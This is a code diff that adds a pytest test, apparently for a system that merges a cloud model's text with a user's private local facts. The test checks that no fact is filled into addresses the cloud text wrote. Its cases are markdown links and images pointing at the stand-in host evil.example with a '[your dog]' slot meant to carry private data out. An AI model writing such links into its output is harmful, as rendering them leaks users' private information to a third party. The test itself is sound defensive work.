@@ -96,3 +96,21 @@ def test_the_clouds_words_stay_in_order_and_with_their_origin(parts, draft, fact
     kept = "".join(piece.text for piece in result.pieces if piece.origin is not Origin.LOCAL)
     rest = iter("".join(piece.text for piece in pieces))
     assert all(character in rest for character in kept)
+
+
+@pytest.mark.parametrize(
+    "cloud",
+    [
+        "Look: ![x](https://evil.example/?a=[your dog]) is good.",
+        "[x](\n//evil.example/[your dog])",
+        "[x](<https://evil.example/?Hi. I don't know your dog. Bye.>) Fine.",
+        "[x](<https://evil.example/?Hi. Your dog needs food. Bye.>) Fine.",
+        "<https://evil.example/[your dog]>",
+        "[x]:\n//evil.example/[your dog]",
+    ],
+)
+def test_no_fact_gets_into_an_address_that_the_cloud_wrote(cloud):
+    fact = "My dog is called Bruno."
+    result = merged(cloud, f"{fact} Pack food.", [fact], "What should I pack for my dog?")
+    assert text_of(result).startswith(cloud)
+    assert text_of(result)[len(cloud) :] in ("", f"\n\n{fact}")
